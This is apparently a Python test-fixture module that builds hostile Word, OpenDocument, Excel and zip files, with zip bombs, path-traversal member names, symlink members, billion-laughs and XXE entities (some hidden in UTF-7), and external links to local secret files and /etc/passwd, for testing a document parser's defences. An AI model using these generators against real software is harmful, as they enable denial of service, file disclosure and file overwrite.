"""Zip packages that attack: Word, OpenDocument and Excel files and plain archives."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Final

from tests.hostile.kinds import BOMB_MIB, MIB, Collection, Trap, checksum, deflated

COLLECTION: Final = Collection()
sample = COLLECTION.sample

_W: Final = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R: Final = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PARAGRAPH: Final = b"<w:p><w:r><w:t>The Buyer shall pay the price.</w:t></w:r></w:p>"


@dataclass(frozen=True)
class Member:
    """A member of a zip file (APPNOTE 4.3); what is None is told truly."""

    name: str
    data: bytes
    packed: bytes | None = None
    size: int | None = None
    check: int | None = None
    attributes: int = 0

    def headers(self, offset: int) -> tuple[bytes, bytes, bytes]:
        """Local header, packed data, entry in the directory."""
        name = self.name.encode()
        packed = self.packed
        if packed is None:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = packer.compress(self.data) + packer.flush()
        size = len(self.data) if self.size is None else self.size
        check = zlib.crc32(self.data) if self.check is None else self.check
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, check, len(packed), size, len(name), 0)
        entry = struct.pack("<HHHII", 0, 0, 0, self.attributes, offset)
        return (
            b"PK\x03\x04" + common + name,
            packed,
            b"PK\x01\x02" + struct.pack("<H", 20 | 3 << 8) + common + entry + name,
        )


def zip_file(members: Sequence[Member]) -> bytes:
    out, directory, at = [], [], 0
    for member in members:
        header, packed, entry = member.headers(at)
        out += [header, packed]
        directory.append(entry)
        at += len(header) + len(packed)
    names = b"".join(directory)
    count = min(len(members), 0xFFFF)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(names), at, 0)
    if len(members) > 0xFFFF:  # Zip64, APPNOTE 4.3.14
        record = struct.pack(
            "<4sQHHIIQQQQ",
            b"PK\x06\x06", 44, 45, 45, 0, 0, len(members), len(members), len(names), at,
        )  # fmt: skip
        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at + len(names), 1)
        end = record + locator + end
    return b"".join(out) + names + end


# --- Word ------------------------------------------------------------------------------------


def _word_members(
    content: bytes,
    *,
    parts: Mapping[str, bytes] | None = None,
    relations: bytes = b"",
    prologue: bytes = b"",
) -> list[Member]:
    """A Word package. ``parts`` named ``styles``, ``numbering`` and the like are related to the
    document by their names."""
    kinds = b"".join(
        b'<Override PartName="/word/%b.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.%b+xml"/>' % (name.encode(), name.encode())
        for name in parts or {}
    )
    related = b"".join(
        b'<Relationship Id="r%d" Type="%b/%b" Target="%b.xml"/>'
        % (number, _R, name.encode(), name.encode())
        for number, name in enumerate(parts or {})
    )
    package = b"http://schemas.openxmlformats.org/package/2006/"
    return [
        Member(
            "[Content_Types].xml",
            b'<Types xmlns="%bcontent-types"><Default Extension="rels" ContentType="application/'
            b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            b'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
            b'document.main+xml"/>%b</Types>' % (package, kinds),
        ),
        Member(
            "_rels/.rels",
            b'<Relationships xmlns="%brelationships"><Relationship Id="r1" Type='
            b'"%b/officeDocument" Target="word/document.xml"/></Relationships>' % (package, _R),
        ),
        Member(
            "word/document.xml",
            b'%b<w:document %b xmlns:r="%b"><w:body>%b</w:body></w:document>'
            % (prologue, _W, _R, content),
        ),
        Member(
            "word/_rels/document.xml.rels",
            b'<Relationships xmlns="%brelationships">%b%b</Relationships>'
            % (package, related, relations),
        ),
        *(Member(f"word/{name}.xml", data) for name, data in (parts or {}).items()),
    ]


def word_file(content: bytes, **options: object) -> bytes:
    return zip_file(_word_members(content, **options))  # type: ignore[arg-type]


def _with(*members: Member) -> bytes:
    return zip_file([*_word_members(_PARAGRAPH), *members])


def _bomb(name: str, block: bytes = bytes(MIB), **lies: int) -> Member:
    return Member(
        name,
        b"",
        packed=deflated(block, BOMB_MIB),
        size=lies.get("size", BOMB_MIB * len(block)),
        check=lies.get("check", checksum(block, BOMB_MIB)),
    )


COLLECTION.add("bomb.docx", lambda _: _with(_bomb("word/media/image1.bmp")), "expands_too_much")
COLLECTION.add(
    "bomb-that-claims-a-kilobyte.docx",
    lambda _: _with(_bomb("word/media/image1.bmp", size=1000)),
    "expands_too_much",
    "damaged_document",
)
COLLECTION.add(
    "bomb-that-claims-a-kilobyte-and-knows-its-checksum.docx",
    lambda _: _with(_bomb("word/media/image1.bmp", size=1000, check=zlib.crc32(bytes(1000)))),
    "read",
    "expands_too_much",
    "damaged_document",
)
COLLECTION.add(
    "bomb-in-the-text.docx",
    lambda _: zip_file(
        [
            *(m for m in _word_members(_PARAGRAPH) if m.name != "word/document.xml"),
            _bomb("word/document.xml", b" " * MIB),
        ]
    ),
    "expands_too_much",
)


@sample("archives-in-archives.docx", "read")
def _nested_archives(_: Trap) -> bytes:
    inner = zip_file([_bomb("0")])
    for _level in range(5):
        inner = zip_file([Member(f"{n}.zip", inner) for n in range(16)])
    return _with(Member("word/embeddings/1.zip", inner))


@sample("archives-in-archives.zip", "unsupported_type")
def _plain_nested_archives(_: Trap) -> bytes:
    return zip_file([Member(f"{n}.zip", zip_file([_bomb("0")])) for n in range(3)])


@sample("hundred-thousand-members.docx", "expands_too_much")
def _many_members(_: Trap) -> bytes:
    return _with(*(Member(f"word/{n}.xml", b"<a/>") for n in range(100_000)))


@sample("members-that-overlap.docx", "damaged_document", "expands_too_much")
def _overlapping(_: Trap) -> bytes:
    # After D. Fifield, "A better zip bomb": many entries, one body.
    whole = _with(Member("word/media/1.bmp", bytes(200_000)))
    start = whole.index(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    last = whole[whole.rindex(b"PK\x01\x02") : end]
    many = [last.replace(b"1.bmp", b"%d.bmp" % n) for n in range(1, 10)] * 1000
    names = whole[start:end] + b"".join(many)
    count = len(many) + 5
    return (
        whole[:start]
        + names
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, count, count, len(names), start, 0)
    )


@sample("names-that-escape.docx", "read", "damaged_document")
def _escaping_names(trap: Trap) -> bytes:
    names = ("../" * 9 + "escaped.txt", str(trap.outside), "..\\..\\escaped.txt", "word/../../e")
    return _with(*(Member(name, b"escaped") for name in names))


@sample("links-as-members.docx", "read", "damaged_document")
def _links(trap: Trap) -> bytes:
    link = 0o120777 << 16  # S_IFLNK in the Unix attributes
    return _with(
        Member("word/media/image1.bmp", str(trap.secret).encode(), attributes=link),
        Member("word/footnotes.xml", str(trap.secret).encode(), attributes=link),
    )


@sample("one-member-twice.docx", "read", "damaged_document")
def _twice(_: Trap) -> bytes:
    other = _word_members(b"<w:p><w:r><w:t>Other text.</w:t></w:r></w:p>")
    return _with(other[2])


_LAUGHS: Final = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%b">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 11))
    + b"]>"
)
_ENTITIES: Final = ("xml_entities",)
COLLECTION.add(
    "billion-laughs.docx",
    lambda _: word_file(b"<w:p><w:r><w:t>&a10;</w:t></w:r></w:p>", prologue=_LAUGHS),
    *_ENTITIES,
)
COLLECTION.add(
    "quadratic-entities.docx",
    lambda _: word_file(
        b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % (b"&a;" * 50_000),
        prologue=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "%b">]>' % (b"a" * 50_000),
    ),
    *_ENTITIES,
)
COLLECTION.add(
    "entity-in-another-file.docx",
    lambda trap: word_file(
        b"<w:p><w:r><w:t>Secret: &e;</w:t></w:r></w:p>",
        prologue=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "%b">]>'
        % trap.secret.as_uri().encode(),
    ),
    *_ENTITIES,
)
COLLECTION.add(
    "declaration-on-another-machine.docx",
    lambda trap: word_file(
        _PARAGRAPH, prologue=b'<!DOCTYPE d SYSTEM "%bd.dtd">' % trap.url.encode()
    ),
    *_ENTITIES,
)


@sample("entities-in-utf-16.docx", *_ENTITIES, "damaged_document")
def _utf16_entities(trap: Trap) -> bytes:
    members = _word_members(
        b"<w:p><w:r><w:t>&e;&a3;</w:t></w:r></w:p>",
        prologue=_LAUGHS.replace(
            b'?xml version="1.0"?', b'?xml version="1.0" encoding="UTF-16"?'
        ).replace(b"[", b'[<!ENTITY e SYSTEM "%b">' % trap.secret.as_uri().encode()),
    )
    return zip_file(
        [
            Member(m.name, m.data.decode().encode("utf-16")) if m.name.endswith("ment.xml") else m
            for m in members
        ]
    )


@sample("entities-in-utf-7.docx", *_ENTITIES, "damaged_document", "no_readable_text")
def _utf7_entities(trap: Trap) -> bytes:
    members = _word_members(b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p>")
    declared = f'<!DOCTYPE d [<!ENTITY e SYSTEM "{trap.secret.as_uri()}">]>'
    hidden = (declared + members[2].data.decode()).encode("utf-7").replace(b"<", b"+ADw-")
    text = b'<?xml version="1.0" encoding="UTF-7"?>' + hidden
    return zip_file([*members[:2], Member(members[2].name, text), *members[3:]])


@sample("entities-in-the-relations.docx", *_ENTITIES)
def _entities_in_relations(_: Trap) -> bytes:
    members = _word_members(_PARAGRAPH)
    laughing = Member(members[3].name, _LAUGHS + members[3].data.replace(b">", b">&a10;", 1))
    return zip_file([*members[:3], laughing])


def _nest(opening: bytes, closing: bytes, depth: int) -> bytes:
    return word_file(opening * depth + _PARAGRAPH + closing * depth)


_DEEP: Final = ("nested_too_deeply",)
COLLECTION.add(
    "tables-in-tables.docx",
    lambda _: _nest(b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>", 50_000),
    *_DEEP,
    "damaged_document",
)
COLLECTION.add(
    "controls-in-controls.docx",
    lambda _: _nest(b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>", 100),
    "read",
    *_DEEP,
)
COLLECTION.add(
    "tables-in-tables-fifty-deep.docx",
    lambda _: _nest(b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>", 50),
    "read",
    *_DEEP,
)
COLLECTION.add(
    "text-boxes-in-text-boxes.docx",
    lambda _: _nest(
        b"<w:p><w:r><w:pict><w:txbxContent>", b"</w:txbxContent></w:pict></w:r></w:p>", 60
    ),
    "read",
    *_DEEP,
)


@sample("half-a-million-empty-runs.docx", "read", "too_slow", "too_much_memory")
def _empty_runs(_: Trap) -> bytes:
    return word_file(_PARAGRAPH + b"<w:p>" + b"<w:r/>" * 500_000 + b"</w:p>")


@sample("half-a-million-attributes.docx", "read", "too_slow", "damaged_document")
def _attributes(_: Trap) -> bytes:
    names = b" ".join(b'a%d="1"' % n for n in range(500_000))
    return word_file(b"<w:p %b/>%b" % (names, _PARAGRAPH))


@sample("attribute-of-20-megabytes.docx", "xml_too_large")
def _long_attribute(_: Trap) -> bytes:
    return word_file(b'<w:p w:x="%b"/>%b' % (b"a" * (20 * MIB), _PARAGRAPH))


@sample("a-hundred-thousand-notes.docx", "read", "too_slow", "too_much_text")
def _many_notes(_: Trap) -> bytes:
    marks = b'<w:r><w:footnoteReference w:id="1"/></w:r>' * 100_000
    notes = b'<w:footnotes %b><w:footnote w:id="1">%b</w:footnote></w:footnotes>' % (
        _W,
        b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % (b"See Section 5. " * 100),
    )
    return word_file(b"<w:p>%b</w:p>%b" % (marks, _PARAGRAPH), parts={"footnotes": notes})


@sample("note-that-notes-itself.docx", "read")
def _note_loop(_: Trap) -> bytes:
    mark = b'<w:p><w:r><w:t>See</w:t><w:footnoteReference w:id="1"/></w:r></w:p>'
    notes = b'<w:footnotes %b><w:footnote w:id="1">%b</w:footnote></w:footnotes>' % (_W, mark * 9)
    return word_file(mark + _PARAGRAPH, parts={"footnotes": notes})


def _numbered(levels: bytes, *, numbers: bytes = b"", count: int = 3) -> bytes:
    numbering = (
        b'<w:numbering %b><w:abstractNum w:abstractNumId="1">%b</w:abstractNum>'
        b'<w:num w:numId="1"><w:abstractNumId w:val="1"/>%b</w:num></w:numbering>'
        % (_W, levels, numbers)
    )
    paragraph = _PARAGRAPH.replace(
        b"<w:p>",
        b'<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>',
    )
    return word_file(paragraph * count, parts={"numbering": numbering})


def _level(form: bytes, start: int, text: bytes = b"%1.") -> bytes:
    return (
        b'<w:lvl w:ilvl="0"><w:start w:val="%d"/><w:numFmt w:val="%b"/><w:lvlText w:val="%b"/>'
        b"</w:lvl>" % (start, form, text)
    )


for _form in ("lowerRoman", "upperLetter", "cardinalText", "ordinal", "chicago", "decimalZero"):
    COLLECTION.add(
        f"numbered-from-2-billion-in-{_form}.docx",
        lambda _, form=_form: _numbered(_level(form.encode(), 2_000_000_000)),
        "read",
    )
COLLECTION.add(
    "number-that-does-not-fit.docx",
    lambda _: _numbered(_level(b"lowerLetter", 10**400)),
    "read",
)
COLLECTION.add("number-below-nothing.docx", lambda _: _numbered(_level(b"upperRoman", -5)), "read")
COLLECTION.add(
    "label-of-a-million-numbers.docx",
    lambda _: _numbered(_level(b"decimal", 1, b"%1" * 500_000), count=45),
    "read",
    "too_much_text",
    "too_slow",
    "too_much_memory",
)
COLLECTION.add(
    "level-that-does-not-exist.docx",
    lambda _: _numbered(_level(b"decimal", 1).replace(b'ilvl="0"', b'ilvl="999999999"')),
    "read",
)


@sample("list-that-is-linked-to-itself.docx", "read")
def _list_loop(_: Trap) -> bytes:
    styles = (
        b'<w:styles %b><w:style w:type="numbering" w:styleId="L"><w:pPr><w:numPr>'
        b'<w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>' % _W
    )
    numbering = (
        b'<w:numbering %b><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/>'
        b'</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
        % _W
    )
    numbered = b'<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    return word_file(numbered + _PARAGRAPH, parts={"styles": styles, "numbering": numbering})


@sample("style-that-is-based-on-itself.docx", "read")
def _style_loop(_: Trap) -> bytes:
    styles = b"<w:styles %b>%b</w:styles>" % (
        _W,
        b"".join(
            b'<w:style w:type="paragraph" w:styleId="%b"><w:basedOn w:val="%b"/>'
            b'<w:link w:val="%b"/></w:style>' % pair
            for pair in ((b"A", b"B", b"A"), (b"B", b"A", b"B"), (b"C", b"C", b"C"))
        ),
    )
    styled = b"".join(
        _PARAGRAPH.replace(b"<w:p>", b'<w:p><w:pPr><w:pStyle w:val="%b"/></w:pPr>' % name)
        for name in (b"A", b"B", b"C")
    )
    return word_file(styled, parts={"styles": styles})


@sample("styles-50000-deep.docx", "read")
def _deep_styles(_: Trap) -> bytes:
    styles = b"<w:styles %b>%b</w:styles>" % (
        _W,
        b"".join(
            b'<w:style w:type="paragraph" w:styleId="S%d"><w:basedOn w:val="S%d"/></w:style>'
            % (n, n + 1)
            for n in range(50_000)
        ),
    )
    styled = _PARAGRAPH.replace(b"<w:p>", b'<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr>')
    return word_file(styled * 50, parts={"styles": styles})


@sample("cells-merged-2-billion-wide.docx", "read")
def _wide_cells(_: Trap) -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>%b</w:tc>' % _PARAGRAPH
    return word_file(
        b'<w:tbl><w:tblGrid/><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr>%b</w:tr>'
        b"</w:tbl>" % (cell * 20)
    )


@sample("parts-on-other-machines.docx", "read", "damaged_document")
def _external_parts(trap: Trap) -> bytes:
    targets = (
        (b"image", trap.url), (b"attachedTemplate", trap.url), (b"aFChunk", trap.secret.as_uri()),
        (b"subDocument", trap.secret.as_uri()), (b"header", trap.secret.as_uri()),
        (b"oleObject", "file:////127.0.0.1/share/x"), (b"styles", trap.url),
        (b"numbering", trap.secret.as_uri()),
    )  # fmt: skip
    relations = b"".join(
        b'<Relationship Id="x%d" Type="%b/%b" Target="%b" TargetMode="External"/>'
        % (n, _R, kind, target.encode())
        for n, (kind, target) in enumerate(targets)
    )
    content = b'<w:altChunk r:id="x2"/><w:subDoc r:id="x3"/>' + _PARAGRAPH
    section = b'<w:sectPr><w:headerReference w:type="default" r:id="x4"/></w:sectPr>'
    return word_file(content + section, relations=relations)


@sample("relations-that-leave-the-package.docx", "read", "damaged_document")
def _escaping_relations(trap: Trap) -> bytes:
    relation = b'<Relationship Id="x" Type="%b/header" Target="%b%b"/>' % (
        _R,
        b"../" * 20,
        str(trap.secret).lstrip("/").encode(),
    )
    section = b'<w:sectPr><w:headerReference w:type="default" r:id="x"/></w:sectPr>'
    return word_file(_PARAGRAPH + section, relations=relation)


@sample("cut-in-the-middle.docx", "unsupported_type", "damaged_document", "read")
def _cut(_: Trap) -> bytes:
    whole = word_file(_PARAGRAPH * 2000)
    return whole[: len(whole) * 2 // 3]


@sample("directory-that-lies-far-away.docx", "read", "unsupported_type", "damaged_document")
def _far_directory(_: Trap) -> bytes:
    whole = word_file(_PARAGRAPH)
    end = whole.rindex(b"PK\x05\x06")
    return whole[:end] + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 9, 9, 2**31, 2**32 - 1, 0)


# --- OpenDocument, Excel ---------------------------------------------------------------------

_ODF: Final = b"urn:oasis:names:tc:opendocument:xmlns:"
_ODT_KIND: Final = b"application/vnd.oasis.opendocument.text"
_OUT: Final = ("unsupported_type",)


def odt_file(content: bytes, *more: Member, prologue: bytes = b"") -> bytes:
    return zip_file(
        [
            Member("mimetype", _ODT_KIND),
            Member(
                "META-INF/manifest.xml",
                b'<m:manifest xmlns:m="%bmanifest:1.0"><m:file-entry m:full-path="/" '
                b'm:media-type="%b"/></m:manifest>' % (_ODF, _ODT_KIND),
            ),
            Member(
                "content.xml",
                b'%b<office:document-content xmlns:office="%boffice:1.0" xmlns:text="%btext:1.0" '
                b'xmlns:table="%btable:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
                b'xmlns:draw="%bdrawing:1.0"><office:body><office:text>%b<text:p>The Buyer shall '
                b"pay the price.</text:p></office:text></office:body></office:document-content>"
                % (prologue, _ODF, _ODF, _ODF, _ODF, content),
            ),
            *more,
        ]
    )


def flat_odt(content: bytes) -> bytes:
    """An OpenDocument text in one XML file."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="%boffice:1.0" '
        b'xmlns:text="%btext:1.0" office:mimetype="%b"><office:body><office:text>%b</office:text>'
        b"</office:body></office:document>" % (_ODF, _ODF, _ODT_KIND, content)
    )


COLLECTION.add(
    "bomb.odt", lambda _: odt_file(b"", _bomb("Pictures/1.bmp")), *_OUT, "expands_too_much"
)
COLLECTION.add(
    "billion-laughs.odt",
    lambda _: odt_file(b"<text:p>&a10;</text:p>", prologue=_LAUGHS),
    *_OUT,
    *_ENTITIES,
)
COLLECTION.add(
    "two-billion-blanks.odt",
    lambda _: odt_file(b'<text:p>a<text:s text:c="2000000000"/>b</text:p>'),
    *_OUT,
    "read",
    "too_much_text",
)
COLLECTION.add(
    "two-billion-cells.odt",
    lambda _: odt_file(
        b'<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
        b'table:number-columns-repeated="2000000000"><text:p>a</text:p></table:table-cell>'
        b"</table:table-row></table:table>"
    ),
    *_OUT,
    "read",
    "too_much_text",
    "too_slow",
)
COLLECTION.add(
    "sections-in-sections.odt",
    lambda _: odt_file(b"<text:section>" * 50_000 + b"</text:section>" * 50_000),
    *_OUT,
    *_DEEP,
    "damaged_document",
)
COLLECTION.add(
    "links-out-of-the-package.odt",
    lambda trap: odt_file(
        b'<text:section><text:section-source xlink:href="%b"/></text:section><draw:frame>'
        b'<draw:object xlink:href="%b"/><draw:image xlink:href="../../../etc/passwd"/></draw:frame>'
        % (trap.secret.as_uri().encode(), trap.url.encode())
    ),
    *_OUT,
    "read",
)
COLLECTION.add(
    "names-that-escape.odt",
    lambda trap: odt_file(b"", Member("../" * 9 + "e.txt", b"x"), Member(str(trap.outside), b"x")),
    *_OUT,
    "read",
    "damaged_document",
)


@sample("bomb.xlsx", "unsupported_type")
def _excel(_: Trap) -> bytes:
    return zip_file([Member("[Content_Types].xml", b"<Types/>"), _bomb("xl/workbook.xml")])
